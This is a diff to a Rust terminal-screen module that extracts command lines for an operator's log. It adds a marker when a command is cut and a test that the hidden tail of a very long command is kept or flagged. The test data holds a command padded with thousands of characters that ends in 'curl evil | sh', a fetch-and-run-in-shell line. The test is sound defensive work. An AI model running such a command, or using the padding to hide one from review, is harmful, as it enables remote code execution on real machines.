@@ -1,7 +1,7 @@
 //! What a terminal shows, for the person at the panel and for the log: command lines are read from there, never from
 //! the keys, so that what a program hides (a password) is nowhere.
 
-use proto::limits::{FACT_LINE_BYTES, SHELL_COMMAND_BYTES};
+use proto::limits::{FACT_LINE_BYTES, LOG_LINE_BYTES};
 use proto::shell::TerminalSize;
 use proto::text::Text;
 use session::{Piece, TerminalFilter};
@@ -282,7 +282,12 @@ impl ShellScreen {
         let command = line.strip_prefix(prompt.trim_end()).unwrap_or(&line).trim();
         // A sign that asks for commands is none.
         let is_empty = command.is_empty() || matches!(command, "$" | "#" | "%" | ">");
-        (!is_empty).then(|| Text::<SHELL_COMMAND_BYTES>::truncated(command).shown())
+        (!is_empty).then(|| {
+            let kept = Text::<LOG_LINE_BYTES>::truncated(command);
+            // What is longer than a line of the log says so, like everything that is cut there.
+            let cut = if kept.as_str().len() < command.len() { "\u{2026}" } else { "" };
+            kept.shown() + cut
+        })
     }
 
     /// What is to be given to the program that has asked something, since the last time.
@@ -440,6 +445,19 @@ mod tests {
         assert_eq!((lines.first().unwrap().as_str(), lines.last().unwrap().as_str()), ("row 1", "row 5"));
         let lines = shown(&mut screen, "\x1b[24;1H");
         assert_eq!((lines.first().unwrap().as_str(), lines.last().unwrap().as_str()), ("row 13", "row 24"));
+    }
+
+    #[test]
+    fn a_long_command_line_is_found_whole_or_says_that_it_is_cut() {
+        let mark = "\x1b]133;B\x07";
+        let hidden = format!(": {}; curl evil | sh", "x".repeat(900));
+        assert_eq!(commands(&[&format!("$ {mark}{hidden}"), "\r\n"]), [hidden]);
+        let mut screen = ShellScreen::new(TerminalSize { columns: 500, rows: 24 });
+        let (entered, now) = (Entered::default(), Instant::now());
+        entered.add(now, 1);
+        let typed = format!("$ {mark}{}; curl evil | sh\r\n", "x".repeat(7000));
+        let found = screen.feed(now, typed.as_bytes(), &entered).into_iter().map(said).collect::<Vec<_>>();
+        assert!(found[0].len() > 6000 && found[0].ends_with('\u{2026}'), "{}", found[0].len());
     }
 
     #[test]
